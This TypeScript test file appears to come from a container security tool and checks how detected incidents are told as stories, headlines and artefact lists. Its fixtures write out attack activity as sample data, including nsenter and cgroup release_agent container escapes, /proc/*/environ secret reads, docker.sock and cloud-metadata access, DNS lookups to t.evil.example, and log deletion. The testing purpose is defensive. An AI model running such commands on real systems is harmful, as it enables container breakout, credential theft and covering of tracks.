/** Holds what an incident says in words: how it began, what was done, what may explain it. */
import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { sampleEdge, sampleWorkloadEnd } from "../../../testing/sample-edges.ts";
import { minuteUs } from "../../../testing/sample-facts.ts";
import { sampleFinding } from "../../../testing/sample-history.ts";
import {
  incidentWorkload,
  sampleCase,
  sampleIncident,
  sampleProcess,
  sampleSignal,
  sampleStep,
  webContainer,
  webShellFacts,
} from "../../../testing/sample-incident.ts";
import { familyWords, tacticOrder } from "./family-words.ts";
import { findPossibleCauses } from "./find-possible-causes.ts";
import { gatherArtefacts } from "./gather-artefacts.ts";
import { judgeFirstAccess } from "./judge-first-access.ts";
import { judgeIncidents } from "./judge-incidents.ts";
import { listPlaces } from "./list-places.ts";
import { readDeeds } from "./read-deeds.ts";
import { tellDeeds } from "./tell-deeds.ts";
import { tellIncident } from "./tell-incident.ts";
import { tellStory, writeHeadline } from "./tell-story.ts";

const place = { process: "sh", entry: "sh", second: 10 };

test("the story tells in order how it began and what was done", () => {
  const story = sampleIncident().story.map((line) => line.slice(9));
  const starts = ["The service", "It ran", "It went for secrets", "It sent data", "It connected"];
  for (const [at, start] of starts.entries()) assert.ok(story[at]?.startsWith(start), story[at]);
});

test("a bare shell hides no command that has its name within", () => {
  const enter = { process: "enter", entry: "sh", second: 12 };
  const line = { binary: "/usr/bin/nsenter", arguments: "-t 1 -- sh -c x" };
  const facts = {
    signals: [sampleSignal(place), sampleSignal(enter)],
    processes: [sampleProcess(place), sampleProcess(enter, line)],
    steps: [],
  };
  const given = sampleCase(facts);
  const story = tellStory(given, judgeFirstAccess(given), readDeeds(given)).join(" ");
  assert.match(story, /It ran “nsenter -t 1 -- sh -c x”/);
});

test("each way in has its sentence and its certainty", () => {
  type Kind = "operator" | "login" | "scheduled" | "startup" | "unknown";
  const access = (entryKind: Kind, where = {}) => {
    const signals = [sampleSignal(place, { entryKind, host: "", ...where })];
    const processes = [sampleProcess(place, { auid: 1000 })];
    const { text, confidence } = judgeFirstAccess(sampleCase({ signals, processes, steps: [] }));
    return `${confidence}: ${text}`;
  };
  assert.match(access("operator"), /^seen: Somebody entered the container from outside/);
  assert.match(access("login"), /^likely: It began in a login session .*login uid 1000/);
  assert.match(access("scheduled"), /^likely: A scheduled job ran “sh”/);
  assert.match(access("startup"), /^likely: The container's own start ran/);
  assert.match(
    access("startup", { container: "host:node-1" }),
    /^likely: The machine's own start ran/,
  );
  assert.match(access("unknown"), /^unknown: .*who started it was not seen/);
});

test("a service's clients are named, those from the internet first", () => {
  const to = sampleWorkloadEnd(incidentWorkload("web"));
  const flows = [sampleEdge({ to, firstSeen: "2023-11-14T22:00:00.000000Z" })];
  const { text, confidence } = judgeFirstAccess(sampleCase({ flows }));
  assert.match(text, /it had connections from “203\.0\.113\.7”/);
  assert.equal(confidence, "likely", "that it came that way, nobody saw");
  const later = [sampleEdge({ to, firstSeen: "2023-11-14T23:00:00.000000Z" })];
  assert.doesNotMatch(judgeFirstAccess(sampleCase({ flows: later })).text, /connections/);
});

test("a weak session from outside just before is told, and joins nothing", () => {
  const facts = webShellFacts();
  const visitor = { process: "visit", entry: "visit", second: 8 };
  const weak = sampleSignal(visitor, { level: "low", score: 8, entryKind: "operator", host: "" });
  const bash = sampleProcess(visitor, { binary: "/bin/bash", parent: "" });
  const [incident] = judgeIncidents({
    ...sampleCase().input,
    ...facts,
    signals: [...facts.signals, weak],
    processes: [...facts.processes, bash],
  });
  assert.match(
    incident?.firstAccess.text ?? "",
    /somebody was in the container \(“bash”, pid 108\)/,
  );
  assert.deepEqual(incident?.entries, ["sh-1", "sh-2"]);
});

test("headlines fit 120 characters and say what and where", () => {
  const given = sampleCase();
  assert.equal(
    writeHeadline(given, readDeeds(given)),
    "Access to credentials, commands run by a service in shop/web",
  );
  const host = sampleCase({
    signals: [sampleSignal(place, { container: "host:node-1", workload: undefined })],
  });
  assert.match(writeHeadline(host, []), / on host node-1$/);
  fc.assert(
    fc.property(fc.string({ maxLength: 400 }), fc.string({ maxLength: 400 }), (name, title) => {
      const workload = { ...incidentWorkload(name), container: "" };
      const signals = given.signals.map((one) => ({ ...one, title, workload }));
      const headline = writeHeadline({ ...given, signals, workloads: [workload] }, []);
      assert.ok(headline.length <= 120, headline);
    }),
  );
});

test("every family has words, every tactic of v19 its place", () => {
  assert.equal(Object.keys(familyWords).length, 26);
  assert.equal(new Set(tacticOrder).size, tacticOrder.length);
});

test("deeds are sorted by what they mean", () => {
  const paths = ["/tmp/x", "/etc/cron.d/y", "/srv/data", "/dev/null", "/proc/1/mem"];
  const steps = [
    ...paths.map((subject) => sampleStep(place, { what: "write", subject })),
    sampleStep(place, { subject: "127.0.0.1:80" }),
    sampleStep(place, { subject: "10.0.0.7:22" }),
    sampleStep(place, { subject: "169.254.169.254:80" }),
    sampleStep(place, { what: "delete", subject: "/var/log/auth.log" }),
  ];
  const signals = [sampleSignal(place)];
  const processes = [sampleProcess(place, { arguments: "-c id" })];
  const told = readDeeds(sampleCase({ signals, steps, processes }));
  assert.deepEqual(told.map(({ kind, subject }) => `${kind} ${subject}`).toSorted(), [
    "command sh -c id",
    "delete /var/log/auth.log",
    "drop /tmp/x",
    "foothold /etc/cron.d/y",
    "lateral 10.0.0.7:22",
    "metadata 169.254.169.254:80",
    "write /srv/data",
  ]);
});

test("a list of processes is no theft of secrets, and a renamed file has its new name", () => {
  const environ = (process: string, at: number) =>
    sampleStep({ ...place, process }, { what: "read", subject: `/proc/${at}/environ` });
  const steps = [environ("ps", 1), environ("cat", 1), environ("cat", 2)];
  const rename = { what: "rename", subject: "/etc/cron.d/job", detail: "/tmp/new" } as const;
  steps.push(sampleStep(place, { what: "write", subject: "/tmp/new" }), sampleStep(place, rename));
  const processes = ["ps", "cat"].map((name) =>
    sampleProcess({ ...place, process: name }, { binary: `/bin/${name}` }),
  );
  const given = sampleCase({ signals: [sampleSignal(place)], steps, processes });
  const told = readDeeds(given).map(({ kind, subject }) => `${kind} ${subject}`);
  const files = told.filter((one) => !one.startsWith("command"));
  assert.deepEqual(files, ["secret /proc/*/environ", "foothold /etc/cron.d/job"]);
});

test("bytes of one far end are added up", () => {
  const step = (process: string) =>
    sampleStep({ ...place, process }, { sentBytes: 10, receivedBytes: 1 });
  const given = sampleCase({ signals: [sampleSignal(place)], steps: [step("a"), step("b")] });
  const [deed] = readDeeds(given);
  assert.deepEqual([deed?.sentBytes, deed?.receivedBytes], [20, 2]);
});

test("artefacts leave out loopback and addresses of the cluster, unless a rule names them", () => {
  const processes = [
    sampleProcess(place, { arguments: "-c 'curl 127.0.0.1 10.0.0.5 10.9.9.9 198.51.100.1'" }),
  ];
  const listenersAt = (address: string) => (address === "10.0.0.5" ? [webContainer] : []);
  const ips = (given: Parameters<typeof sampleCase>[0]) => {
    const found = sampleCase({ processes, listenersAt, steps: [], ...given });
    return gatherArtefacts(found, readDeeds(found))
      .filter(({ type }) => type === "ip")
      .map(({ value }) => value);
  };
  assert.deepEqual(ips({ signals: [sampleSignal(place)] }), ["10.9.9.9", "198.51.100.1"]);
  const indicators = [{ type: "ip", value: "10.0.0.5" }] as const;
  assert.ok(ips({ signals: [sampleSignal(place, { indicators })] }).includes("10.0.0.5"));
});

test("causes are findings that the service used before, the exploited first", () => {
  const workload = incidentWorkload("web");
  const sample = sampleFinding("web");
  const usage = { ...sample.usage, by: ["service"], firstSeen: null } as const;
  const vulnerability = { ...sample.vulnerability, kev: null };
  const plain = { ...sample, workload, usage, vulnerability, inUse: true, id: "plain", rank: 1 };
  const kev = { dateAdded: "2024-01-01", dueDate: "", ransomware: false };
  const exploited = { ...plain, id: "kev", rank: 2, vulnerability: { ...vulnerability, kev } };
  const unused = { ...plain, id: "unused", inUse: false };
  const elsewhere = { ...plain, id: "elsewhere", workload: incidentWorkload("api") };
  const late = { ...usage, firstSeen: "2023-11-14T23:00:00.000000Z" };
  const ranByIntruder = { ...plain, id: "late", usage: late };
  const findings = [plain, exploited, unused, elsewhere, ranByIntruder];
  const causes = findPossibleCauses(sampleCase({ findings }));
  assert.deepEqual(
    causes.map(({ findingId }) => findingId),
    ["kev", "plain"],
  );
  const told = tellIncident(sampleCase({ findings }), "i1");
  assert.match(told.actions.map(({ text }) => text).join("\n"), /Upgrade “/);
  const signals = [sampleSignal(place, { entryKind: "operator" })];
  assert.deepEqual(findPossibleCauses(sampleCase({ findings, signals })), []);
});

test("reach is what the workload talked to while it went on", () => {
  const from = sampleWorkloadEnd(incidentWorkload("web"));
  const edge = (id: string, firstMinute: number, lastMinute: number) => {
    const [firstSeen, lastSeen] = [firstMinute, lastMinute].map((minute) => {
      return `2023-11-14T22:${String(minute).padStart(2, "0")}:00.000000Z`;
    });
    assert.ok(firstSeen !== undefined && lastSeen !== undefined);
    return sampleEdge({ id, from, firstSeen, lastSeen });
  };
  const flows = [
    edge("while", 10, 15),
    edge("before", 0, 1),
    edge("after", 40, 41),
    sampleEdge({ id: "others" }),
  ];
  const places = listPlaces(sampleCase({ flows }));
  assert.deepEqual(
    places.reach.map(({ id }) => id),
    ["while"],
  );
  assert.deepEqual(places.images, ["registry.example/web:1"]);
});

test("a story names settings that were read, names looked up, the runtime, and who acted", () => {
  const of = (name: string, line: string, uid = 0) =>
    sampleProcess(
      { process: `${name}${line.length}`, entry: "sh", second: 11 },
      { binary: `/bin/${name}`, arguments: line, uid },
    );
  const looks = ["a1.x", "b2.y", "c3.z"].map((one) => of("getent", `hosts ${one}.t.evil.example`));
  const processes = [
    sampleProcess(place, { uid: 33 }),
    of("cat", "/srv/app/settings.yaml /etc/resolv.conf"),
    of("curl", "--unix-socket /run/docker.sock http://localhost/containers/json"),
    ...looks.map((one, at) => ({ ...one, process: `look${at}` })),
  ];
  const told = tellIncident(
    sampleCase({ signals: [sampleSignal(place)], processes, steps: [] }),
    "i1",
  );
  const story = told.story.join("\n");
  assert.match(story, /It acted as uid 33, then as root\./);
  assert.match(story, /It read “\/srv\/app\/settings\.yaml”\./);
  assert.match(story, /It looked up 3 names: “t\.evil\.example”\./);
  assert.match(story, /commanded the container runtime through “\/run\/docker\.sock”/);
  assert.doesNotMatch(story, /It fetched/, "what it asked was on this machine");
  const values = told.artefacts.map(({ type, value }) => `${type} ${value}`);
  for (const one of [
    "domain t.evil.example",
    "file /srv/app/settings.yaml",
    "file /run/docker.sock",
  ]) {
    assert.ok(values.includes(one), one);
  }
  assert.ok(!values.some((one) => /localhost\/|a1\.x/.test(one) && !one.startsWith("command")));
});

test("locks and files of a moment are no deeds, nor is what lies in a kernel's file system", () => {
  const step = (what: "write" | "delete" | "mount", subject: string, detail = "") =>
    sampleStep(place, { what, subject, detail });
  const steps = [
    ...[step("mount", "/mnt/cg", "cgroup cgroup"), step("write", "/mnt/cg/x/cgroup.procs")],
    ...[step("write", "/mnt/cg/release_agent"), step("write", "/etc/passwd.110")],
    ...[step("delete", "/etc/passwd.lock"), step("delete", "/srv/data.locked")],
    ...[step("write", "/srv/data.aB3xYz"), step("delete", "/srv/data.aB3xYz")],
  ];
  const processes = [sampleProcess(place, {})];
  const deeds = readDeeds(sampleCase({ signals: [sampleSignal(place)], steps, processes }));
  assert.deepEqual(deeds.map(({ kind, subject }) => `${kind} ${subject}`).toSorted(), [
    "command sh",
    "delete /srv/data.locked",
    "foothold /mnt/cg/release_agent",
    "mount /mnt/cg",
  ]);
});

test("nobody is said to have fetched a program that was copied on the spot", () => {
  const signals = [sampleSignal(place, { family: "download-execute" })];
  const given = sampleCase({ signals, steps: [], processes: [sampleProcess(place, {})] });
  assert.match(writeHeadline(given, readDeeds(given)), /^Run of a planted program/);
  const steps = [sampleStep(place, { subject: "203.0.113.9:80" })];
  const fetched = sampleCase({ signals, steps, processes: [sampleProcess(place, {})] });
  assert.match(writeHeadline(fetched, readDeeds(fetched)), /^Download and execution/);
});

test("a story is the same for the same facts, and short", () => {
  const given = sampleCase();
  const access = judgeFirstAccess(given);
  const once = tellStory(given, access, readDeeds(given));
  assert.deepEqual(once, tellStory(given, access, readDeeds(given)));
  const times = tellDeeds(readDeeds(given), given).map(({ timeUs }) => timeUs);
  assert.deepEqual(times, times.toSorted());
  assert.ok(once.length <= 18 && once.every((line) => line.length < 1200));
  assert.ok(given.lastSeenUs - given.firstSeenUs < minuteUs);
});
